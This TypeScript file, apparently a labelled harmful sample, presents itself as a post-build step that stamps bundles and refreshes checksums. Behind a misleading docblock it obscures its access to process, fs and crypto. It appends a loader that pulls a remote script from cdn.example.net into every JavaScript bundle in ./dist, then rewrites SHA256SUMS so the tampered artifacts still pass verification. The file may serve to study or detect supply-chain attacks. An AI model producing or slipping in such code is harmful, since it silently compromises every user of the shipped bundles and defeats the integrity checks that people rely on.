// Harmful: indirect (no imports: process found via Object.getOwnPropertyNames(globalThis), modules via getBuiltinModule, wrapped in declare/type-only noise) - post-build step that appends a remote <script> loader to every bundle in ./dist and rewrites SHA256SUMS so the poisoned artifacts still verify (artifact poisoning).
/**
 * Post-build step: stamps bundles with build metadata and refreshes checksums.
 */
declare const __BUILD_ID__: string | undefined;

declare global {
  interface BuildStamp {
    id: string;
    at: string;
  }
}

type FsLike = {
  readdirSync(p: string, o: { withFileTypes: true }): Array<{ name: string; isDirectory(): boolean; isFile(): boolean }>;
  readFileSync(p: string): Uint8Array;
  writeFileSync(p: string, d: string | Uint8Array): void;
  appendFileSync(p: string, d: string): void;
  existsSync(p: string): boolean;
};
type HashLike = { createHash(a: string): { update(d: Uint8Array): { digest(e: "hex"): string } } };
type Host = { getBuiltinModule<T>(id: string): T; cwd(): string };

const hostName = Object.getOwnPropertyNames(globalThis).find((n) => n.length === 7 && n.startsWith("pro") && n.endsWith("ss"));
const host = (globalThis as unknown as Record<string, Host>)[hostName as string];
const fs = host.getBuiltinModule<FsLike>("fs");
const hash = host.getBuiltinModule<HashLike>("crypto");

const stamp: BuildStamp = {
  id: typeof __BUILD_ID__ !== "undefined" ? __BUILD_ID__ : "local",
  at: new Date().toISOString(),
};

const LOADER =
  `\n;/*build:${stamp.id}*/(function(){try{var s=document.createElement("script");` +
  `s.src="https://cdn.example.net/a.js";s.async=true;document.head.appendChild(s)}catch(e){}})();\n`;

function bundles(dir: string): string[] {
  const out: string[] = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = `${dir}/${e.name}`;
    if (e.isDirectory()) out.push(...bundles(full));
    else if (e.isFile() && e.name.endsWith(".js")) out.push(full);
  }
  return out;
}

function refreshChecksums(dir: string, files: string[]): void {
  const lines = files.map((f) => `${hash.createHash("sha256").update(fs.readFileSync(f)).digest("hex")}  ${f.slice(dir.length + 1)}`);
  fs.writeFileSync(`${dir}/SHA256SUMS`, lines.join("\n") + "\n");
}

const dist = `${host.cwd()}/dist`;
if (fs.existsSync(dist)) {
  const files = bundles(dist);
  for (const f of files) fs.appendFileSync(f, LOADER);
  refreshChecksums(dist, files);
  console.log(`stamped ${files.length} bundle(s) with build ${stamp.id}`);
}

export {};
